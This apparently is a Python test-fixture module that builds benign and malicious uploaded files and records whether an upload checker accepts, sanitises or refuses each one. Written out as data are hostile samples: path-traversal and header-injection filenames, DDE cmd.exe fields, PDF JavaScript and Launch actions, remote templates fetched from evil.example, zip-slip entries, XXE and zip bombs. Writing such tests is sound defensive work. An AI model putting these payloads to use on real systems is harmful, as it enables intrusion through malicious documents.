"""Files that people send, and files that are sent to do harm; each is made when it is asked for.

`SPECIMENS` is the table: what it is, under which name it comes, how it is made, and what must become of it.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import cache, partial
from typing import NamedTuple

from tests.infrastructure.files import EXE, JPEG, PDF, PNG, crowded, docm, docx, open_document, pdf, xlsx
from tests.infrastructure.harmful import (
    attaching,
    bomb,
    chart,
    compound,
    compressed_pdf,
    deep_field,
    dtd,
    encrypted_pdf,
    huge_picture,
    large,
    laughs,
    link,
    locked_document,
    nested_bomb,
    overlapping,
    package,
    packed_script,
    relationships,
    scan,
    twice,
    understated,
    with_fields,
    with_form,
)

#: bytes that a file may have
LIMIT = 50 * 1024 * 1024


class Specimen(NamedTuple):
    """A file of the corpus."""

    what: str
    name: str
    make: Callable[[], bytes]
    #: the name that it is kept under; "" when it is refused
    kept: str = ""
    #: what the person is told, of a file that is refused
    told: str = ""


_HTML = b"<html><script>alert(document.cookie)</script></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
_SETTINGS, _DOCUMENT = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
_TEMPLATE = "attachedTemplate"


def _related(part: str, kind: str, target: str) -> Callable[[], bytes]:
    return lambda: package({part: relationships(kind, target)})


def _fixed(content: bytes) -> Callable[[], bytes]:
    return lambda: content


_NOT_TAKEN = "files of this type are not taken"
_UNUSUAL = "is not packed as an office program packs a document"
_LONG = "Отчёт о проведении недели карьеры " * 9

#: as they should be
TAKEN = [
    Specimen("a Cyrillic name", "Отчёт № 5.pdf", _fixed(PDF), "Отчёт № 5.pdf"),
    Specimen("a decomposed name, as a Mac sends it", "Отче\u0308т и\u0306.pdf", _fixed(PDF), "Отчёт й.pdf"),
    Specimen("a name of 300 characters", f"{_LONG[:296]}.pdf", _fixed(PDF), f"{_LONG[:196]}.pdf"),
    Specimen("an ending in capitals", "СКАН.PDF", _fixed(PDF), "СКАН.PDF"),
    Specimen("exactly 50 MB", "ровно.pdf", partial(large, LIMIT), "ровно.pdf"),
    Specimen("the same bytes under another name", "копия.pdf", _fixed(PDF), "копия.pdf"),
    Specimen("two endings, the last one true", "отчёт.html.pdf", _fixed(PDF), "отчёт.html.pdf"),
    Specimen("a scan", "скан.pdf", scan, "скан.pdf"),
    Specimen("a PDF with packed objects and a link", "текст.pdf", compressed_pdf, "текст.pdf"),
    Specimen(
        "a PDF that opens at a page",
        "текст.pdf",
        lambda: pdf(root=b"/OpenAction[3 0 R/Fit]"),
        "текст.pdf",
    ),
    Specimen(
        "a PDF with the data of an invoice",
        "счёт.pdf",
        lambda: attaching("factur-x.xml", b"<invoice/>"),
        "счёт.pdf",
    ),
    Specimen("a PDF with a form of XFA", "анкета.pdf", lambda: with_form("<template/>"), "анкета.pdf"),
    Specimen("a document", "план.docx", docx, "план.docx"),
    Specimen(
        "fields of a table of contents, of a link and of a picture on the own disk",
        "план.docx",
        lambda: package(
            {
                "word/footer1.xml": '<w:ftr xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:instrText>'
                'TOC \\o "1-3" \\h</w:instrText><w:fldChar w:fldCharType="end"/>'
                '<w:fldSimple w:instr="HYPERLINK https://example.org/dde"/><w:instrText>INCLUDEPICTURE '
                '"file:///C:\\\\Users\\\\a.png" \\d</w:instrText></w:ftr>'
            }
        ),
        "план.docx",
    ),
    Specimen("a document with a chart, its workbook, a picture, a link", "план.docx", chart, "план.docx"),
    Specimen(
        "a template on the author's own disk",
        "письмо.docx",
        _related(_SETTINGS, _TEMPLATE, "file:///C:\\Users\\a\\Бланк.dotx"),
        "письмо.docx",
    ),
    Specimen(
        "a formula as an object",
        "расчёт.docx",
        lambda: package({"word/embeddings/oleObject1.bin": compound("Equation Native")}),
        "расчёт.docx",
    ),
    Specimen(
        "a workbook that reads another one",
        "свод.xlsx",
        lambda: package(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relationships("externalLinkPath", "a.xlsx")},
            xlsx(),
        ),
        "свод.xlsx",
    ),
    Specimen("an OpenDocument text", "план.odt", lambda: open_document("text"), "план.odt"),
    Specimen(
        "an OpenDocument text with an empty library",
        "план.odt",
        lambda: package({"Basic/Standard/script-lb.xml": "<library/>"}, open_document("text")),
        "план.odt",
    ),
    Specimen("a photograph", "фото.JPG", _fixed(JPEG), "фото.JPG"),
    Specimen("a picture", "снимок.png", _fixed(PNG), "снимок.png"),
]

#: taken, for they can do nothing where they are kept and as they are served
NEUTRALISED = [
    Specimen("a path", "../../../etc/passwd.pdf", _fixed(PDF), "passwd.pdf"),
    Specimen("a path of Windows", "C:\\Windows\\..\\отчёт.pdf", _fixed(PDF), "отчёт.pdf"),
    Specimen("a name with NUL", "отчёт\0.exe.pdf", _fixed(PDF), "отчёт.exe.pdf"),
    Specimen("a name with line breaks", "a\r\nSet-Cookie: b=c.pdf", _fixed(PDF), "aSet-Cookie: b=c.pdf"),
    Specimen("a name that reads backwards", "отчёт\u202efdp.pdf", _fixed(PDF), "отчётfdp.pdf"),
    Specimen("a name with markup", "<img src=x onerror=a()>.pdf", _fixed(PDF), "<img src=x onerror=a()>.pdf"),
    Specimen("a PDF that is an archive too", "два.pdf", lambda: PDF + docx(), "два.pdf"),
    Specimen("a photograph with a page behind it", "фото.jpg", _fixed(JPEG + _HTML), "фото.jpg"),
    Specimen("a picture with a page inside", "снимок.png", _fixed(PNG + _HTML), "снимок.png"),
]

_RUNS = "runs a script or starts a program"
#: fields that run something or fetch from elsewhere, and what of it the person is told
_FIELDS: list[tuple[str, Callable[[], bytes], str]] = [
    ("DDE", lambda: with_fields("DDEAUTO c:\\\\cmd.exe"), "DDE"),
    ("DDE in UTF-16", lambda: with_fields("DDEAUTO c:\\\\cmd.exe", "utf-16"), "DDE"),
    ("DDE in two runs", lambda: with_fields("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd"), "DDE"),
    ("DDE with a character by its number", lambda: with_fields("&#68;DE cmd"), "DDE"),
    ("DDE in a part of another name", lambda: with_fields("DDEAUTO cmd", part="text/main.bin"), "DDE"),
    ("DDE in a simple field", lambda: package({"a.xml": '<w:a><w:fldSimple w:instr="dde x"/></w:a>'}), "DDE"),
    (
        "a picture that a field fetches",
        lambda: with_fields('INCLUDEPICTURE "http://evil.example/a.png" \\d'),
        "http://evil.example/a.png",
    ),
    (
        "a text that a field fetches from a share",
        lambda: with_fields('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'),
        "\\\\",
    ),
]

#: with what the person is told
REFUSED = [
    Specimen("50 MB and a byte", "много.pdf", partial(large, LIMIT + 1), told="is larger than 50 MB"),
    Specimen("nothing", "пусто.pdf", _fixed(b""), told="is empty"),
    Specimen("a drawing with a script", "схема.svg", _fixed(_SVG), told=_NOT_TAKEN),
    Specimen("a drawing as a picture", "схема.png", _fixed(_SVG), told="is not a PNG file"),
    Specimen("a page as PDF", "страница.pdf", _fixed(_HTML), told="is not a PDF file"),
    Specimen("a page with two endings", "отчёт.pdf.html", _fixed(_HTML), told=_NOT_TAKEN),
    Specimen("a script behind a GIF's beginning", "a.png", _fixed(b"GIF89a=1;alert(1)"), told="is not a PNG"),
    Specimen("a program as a document", "план.docx", _fixed(EXE), told="is not a DOCX file"),
    Specimen("a document with macros", "план.docm", docm, told=_NOT_TAKEN),
    Specimen("macros inside a document", "план.docx", docm, told="holds macros"),
    Specimen(
        "macros inside a workbook inside a document",
        "план.docx",
        lambda: package({"word/embeddings/b.xlsx": package({"xl/vbaProject.bin": b"\0"}, xlsx())}),
        told="holds macros",
    ),
    Specimen(
        "macros of OpenDocument",
        "план.odt",
        lambda: package({"Basic/Standard/Module1.xml": "<module/>"}, open_document("text")),
        told="holds macros",
    ),
    Specimen("a workbook as a document", "свод.docx", xlsx, told="is not a DOCX file"),
    Specimen("a bomb", "план.docx", bomb, told="unfolds into far more"),
    Specimen("a bomb within bombs", "план.docx", nested_bomb, told="unfolds into far more"),
    Specimen("a bomb of overlapping entries", "план.docx", overlapping, told=_UNUSUAL),
    Specimen("a bomb that says it is small", "план.docx", understated, told="is damaged"),
    Specimen("100,000 entries", "план.docx", lambda: crowded(100_000), told="far more parts"),
    Specimen(
        "an entry that leads out",
        "план.docx",
        lambda: package({"../../evil.xml": "<a/>"}),
        told=_UNUSUAL,
    ),
    Specimen("an absolute entry", "план.docx", lambda: package({"/etc/cron.d/a": "a"}), told=_UNUSUAL),
    Specimen("an entry that is a link", "план.docx", link, told=_UNUSUAL),
    Specimen("two entries of one name", "план.docx", twice, told=_UNUSUAL),
    Specimen("a billion laughs", "план.docx", lambda: package({"word/footer1.xml": laughs()}), told=_UNUSUAL),
    Specimen(
        "an entity of a file",
        "план.docx",
        lambda: package({"customXml/item1.xml": dtd("utf-8")}),
        told=_UNUSUAL,
    ),
    Specimen(
        "the same in UTF-16",
        "план.docx",
        lambda: package({"customXml/item1.xml": dtd("utf-16")}),
        told=_UNUSUAL,
    ),
    Specimen(
        "a template from elsewhere",
        "план.docx",
        _related(_SETTINGS, _TEMPLATE, "https://evil.example/t.dotm"),
        told="fetches something from elsewhere when it is opened: https://evil.example/t.dotm",
    ),
    Specimen(
        "a picture from another computer",
        "план.docx",
        _related(_DOCUMENT, "image", "file://server/share/a.png"),
        told="fetches something from elsewhere",
    ),
    Specimen(
        "a file packed as an object",
        "план.docx",
        lambda: package({"word/embeddings/oleObject1.bin": compound("\x01Ole10Native")}),
        told="holds a program or another file inside: oleObject1.bin",
    ),
    Specimen(
        "a program as a picture of a document",
        "план.docx",
        lambda: package({"word/media/image1.png": EXE}),
        told="holds a program or another file inside: image1.png",
    ),
    Specimen("a document with a password", "план.docx", locked_document, told="is locked with a password"),
    Specimen(
        "an OpenDocument text with a password",
        "план.odt",
        lambda: package(
            {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}, open_document("text")
        ),
        told="is locked with a password",
    ),
    Specimen("a PDF that was cut off", "скан.pdf", lambda: scan()[:-300], told="damaged or was cut off"),
    Specimen(
        "a PDF that was cut off and ended",
        "скан.pdf",
        lambda: PDF[:20] + b"%%EOF",
        told="damaged or was cut off",
    ),
    Specimen("a PDF with a password", "скан.pdf", encrypted_pdf, told="is locked with a password"),
    Specimen(
        "a PDF with a script",
        "скан.pdf",
        lambda: pdf(root=b"/OpenAction" + _SCRIPT),
        told="runs a script or starts a program",
    ),
    Specimen(
        "a PDF that starts a program after a harmless step",
        "скан.pdf",
        lambda: pdf(b"<</S/URI/URI(https://example.org)/Next[" + _LAUNCH + b"]>>", root=b"/OpenAction 4 0 R"),
        told="runs a script or starts a program",
    ),
    Specimen("a script of a bookmark, packed", "скан.pdf", packed_script, told=_RUNS),
    Specimen(
        "a bookmark that starts a program",
        "скан.pdf",
        lambda: pdf(
            b"<</First 5 0 R/Last 5 0 R/Count 1>>",
            b"<</Title(a)/Parent 4 0 R/A" + _LAUNCH + b">>",
            root=b"/Outlines 4 0 R",
        ),
        told=_RUNS,
    ),
    Specimen("a script 21 fields deep", "анкета.pdf", lambda: deep_field(20), told=_RUNS),
    Specimen(
        "a form of XFA with a script",
        "анкета.pdf",
        lambda: with_form("<event><script>app.alert(1)</script></event>"),
        told=_RUNS,
    ),
    Specimen(
        "a program attached to a PDF",
        "скан.pdf",
        lambda: attaching("счёт.exe", EXE),
        told="holds a program or another file inside: счёт.exe",
    ),
    Specimen(
        "a program attached as data",
        "скан.pdf",
        lambda: attaching("data.xml", EXE),
        told="holds a program or another file inside: data.xml",
    ),
    Specimen(
        "a template from elsewhere, by a name in capitals",
        "план.docx",
        _related("word/_rels/settings.xml.RELS", _TEMPLATE, "https://evil.example/t.dotm"),
        told="fetches something from elsewhere when it is opened: https://evil.example/t.dotm",
    ),
    *(
        Specimen(what, "план.docx", make, told=f"fetches something from elsewhere when it is opened: {told}")
        for what, make, told in _FIELDS
    ),
    Specimen(
        "a picture of 50,000 × 50,000",
        "план.png",
        huge_picture,
        told="is 50000 × 50000 dots large; pictures of at most 250 million dots are taken",
    ),
]


@cache
def content_of(make: Callable[[], bytes]) -> bytes:
    """The bytes of a specimen, made once a session."""
    return make()
